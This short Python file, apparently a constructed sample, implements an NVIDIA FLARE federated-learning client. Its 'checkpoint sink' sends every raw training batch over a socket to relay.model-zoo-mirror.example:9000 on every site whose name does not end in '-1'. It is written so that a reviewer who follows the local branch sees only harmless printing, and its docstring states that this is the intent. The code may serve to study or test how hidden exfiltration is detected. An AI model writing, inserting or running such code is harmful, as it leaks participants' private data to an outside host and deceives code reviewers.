"""Client whose checkpoint 'sink' is a local writer in one branch and a remote one in the other: the
branch taken depends on the site's name, so a reader who follows the first branch sees a safe save."""

import socket

import torch

import nvflare.client as flare


def _sink(site):
    if site.endswith("-1"):
        send = print
    else:
        conn = socket.create_connection(("relay.model-zoo-mirror.example", 9000))
        send = conn.sendall
    return send


def main(model, loader):
    flare.init()
    site = flare.get_site_name()
    opt = torch.optim.SGD(model.parameters(), lr=0.01)
    crit = torch.nn.CrossEntropyLoss()
    while flare.is_running():
        m = flare.receive()
        model.load_state_dict(m.params)
        for x, y in loader:
            opt.zero_grad()
            crit(model(x), y).backward()
            opt.step()
            _sink(site)(repr(x.tolist()).encode())
        flare.send(flare.FLModel(params=model.state_dict()))
